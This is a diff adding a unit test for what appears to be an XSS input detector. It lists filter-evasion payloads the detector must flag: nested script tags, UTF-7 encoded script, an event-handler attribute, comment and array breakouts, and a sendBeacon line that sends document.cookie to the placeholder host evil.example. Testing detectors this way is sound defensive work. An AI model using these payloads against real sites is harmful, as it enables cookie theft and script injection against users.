@@ -77,6 +77,28 @@ TEST(XssInput, HiddenMarkup) {
   EXPECT_TRUE(fires("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"));
 }
 
+TEST(XssInput, FilterAndCharsetEvasions) {
+  Hit hit;
+  // A filter that removes <script> (or "script") once leaves a script element.
+  EXPECT_TRUE(fires("<scr<script>ipt>alert(1)</scr<script>ipt>", &hit));
+  EXPECT_NE(hit.reason.find("filter"), std::string::npos) << hit.reason;
+  EXPECT_TRUE(fires("<scrscriptipt>alert(1)</scrscriptipt>"));
+  // UTF-7, which old browsers sniffed.
+  EXPECT_TRUE(fires("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", &hit));
+  EXPECT_NE(hit.reason.find("UTF-7"), std::string::npos) << hit.reason;
+  // An empty attribute value before a handler, as old parsers read it.
+  EXPECT_TRUE(fires("<IMG SRC= onmouseover=\"alert('x')\">"));
+  // Code after the closer of the page's comment or array.
+  EXPECT_TRUE(fires("];a=eval;b=alert;a(b(1));//"));
+  EXPECT_TRUE(fires("*/alert(document.domain)/*"));
+  EXPECT_TRUE(fires("navigator.sendBeacon('//evil.example',document.cookie)"));
+  EXPECT_TRUE(fires("window.open('//evil.example')"));
+  EXPECT_FALSE(fires("Describe the script tag; scripts run in order"));
+  EXPECT_FALSE(fires("C++ and C# are languages; 1+1=2"));
+  EXPECT_FALSE(fires("<IMG SRC= onmouseover=\"hello world\">"));
+  EXPECT_FALSE(fires("window.show()"));
+}
+
 TEST(XssInput, ProseAndComparisonsStayClean) {
   EXPECT_FALSE(fires("a < b"));
   EXPECT_FALSE(fires("if a<b and c>d then"));
